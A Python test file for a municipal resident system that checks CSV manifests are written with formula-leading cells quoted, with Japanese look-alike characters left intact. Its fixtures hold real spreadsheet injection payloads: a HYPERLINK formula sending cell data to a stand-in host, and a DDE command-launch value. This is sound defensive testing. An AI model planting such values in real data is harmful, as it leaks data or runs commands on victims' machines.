"""Issue 14, item 9: the print vendor's CSV manifest of a notice batch opens in a spreadsheet
as data. Names and addresses that begin like a formula get the OWASP single quote; the
look-alike characters a Japanese address may begin with are written unchanged; removing one
leading quote gives every original cell back."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from madoguchi.bootstrap import Container
from madoguchi.config import Settings
from madoguchi.rules.cases import CaseKind
from madoguchi.rules.items import Item
from madoguchi.services.audit import Actor
from madoguchi.services.domain import Resident, ResidentStatus
from madoguchi.services.registry import new_resident_id
from tests.support.clock import FakeClock

MAIN = Actor("clerk01", "main", "T1")
ISSUED = datetime(2022, 3, 1, 1, 0, tzinfo=UTC)
TODAY = datetime(2026, 11, 24, 1, 0, tzinfo=UTC)  # notices for expiries 2027-01-24 … 02-24

# (name, address) as the registry sends them; all expire 2027-02-20 (5th birthday)
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?x="&A1) 太郎', "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+81 花子", "-2+3 帯広市"),
    ("\tタブ 始", "  =1+2 帯広市"),
]
LEGIT = [
    ("ーノ瀬 一郎", "ー北海道帯広市"),  # the long-vowel mark: not a formula anywhere
    ("−号 次郎", "‐北海道帯広市西5条南7丁目"),  # U+2212 minus, U+2010 hyphen
    ("'引用 三郎", "北海道帯広市西5条南7丁目1番地"),  # a leading quote of its own
]


@pytest.fixture
def c(tmp_path: Path) -> Container:
    clock = FakeClock(ISSUED)
    container = Container(
        Settings(data_dir=tmp_path / "data", database_url=f"sqlite:///{tmp_path / 't.db'}"),
        clock,
    )
    container.init_ca()
    for name, address in HOSTILE + LEGIT:
        r = Resident(
            new_resident_id(),
            name,
            "テスト",
            date(1975, 2, 20),
            "1",
            address,
            ResidentStatus.RESIDENT,
            False,
            None,
            clock(),
        )
        with container.uow() as uow:
            r = container.registry.register(uow, r, MAIN)
            container.card_side.new_card(
                uow, r, date(2021, 6, 1), juki_pin="1111", kenmen_pin="2222"
            )
            uow.commit()
        case = container.counter.open_case(kind=CaseKind.P1, resident_id=r.id, actor=MAIN)
        container.counter.record_visit(
            case.id, visit=1, items=[Item.CARD, Item.HOLDER_PIN], actor=MAIN, juki_pin="1111"
        )
        container.counter.issue(case.id, sign_password="ABC123", auth_pin="3333", actor=MAIN)
    clock.now = TODAY
    return container


def _registry(c: Container) -> dict[str, str]:
    """Every name and address as the store keeps them (normalised), by name."""
    with c.uow() as uow:
        return {r.name: r.address for r in uow.counter.find_residents(limit=100)}


def test_manifest_cells_never_open_as_formulas(c: Container) -> None:
    campaign = c.notices.plan(MAIN).campaign.id
    (batch,) = c.notices.dispatch(campaign, MAIN).batches
    _, manifest = c.notices.batch_files(batch)
    rows = list(csv.reader(manifest.open(encoding="utf-8", newline="")))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["number", "postal_code", "name", "address"]
    stored = _registry(c)
    assert len(body) == len(stored) == len(HOSTILE) + len(LEGIT)
    for row in body:
        for cell in row:
            # what a spreadsheet looks at: the first character that is not a space
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), row
        name, address = (cell[1:] if cell.startswith("'") else cell for cell in row[2:4])
        assert stored[name] == address  # one quote off gives the original back
    written = {row[2]: row[3] for row in body}
    quoted = sorted(cell for cell in [*written, *written.values()] if cell.startswith("'"))
    formulas = [v for pair in stored.items() for v in pair if v[:1] in ("=", "+", "-", "@")]
    assert len(formulas) == 5  # the registry strips the tab; the other five stay hostile
    assert quoted == sorted(["''引用\u3000三郎"] + ["'" + v for v in formulas])
    for name, address in stored.items():
        if name[0] in "ー−":  # the look-alikes: written exactly as stored, no quote
            assert written[name] == address and not address.startswith("'")
    assert "''引用\u3000三郎" in written


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+81", "'+81"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\x00x", "'\x00x"),
        ("  =1", "'  =1"),
        ("'=1", "''=1"),
        ("ー北海道", "ー北海道"),
        ("－１", "－１"),
        ("−1", "−1"),
        ("北海道帯広市西5条南7丁目1-2", "北海道帯広市西5条南7丁目1-2"),
        ("2027-02-20", "2027-02-20"),
        ("", ""),
    ],
)
def test_neutralise_the_owasp_way(cell: str, written: str) -> None:
    from madoguchi.services.spreadsheet import SpreadsheetSafeWriter, neutralise

    assert neutralise(cell) == written
    buf = io.StringIO()
    SpreadsheetSafeWriter(buf).writerow([cell, "x"])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == [written, "x"]
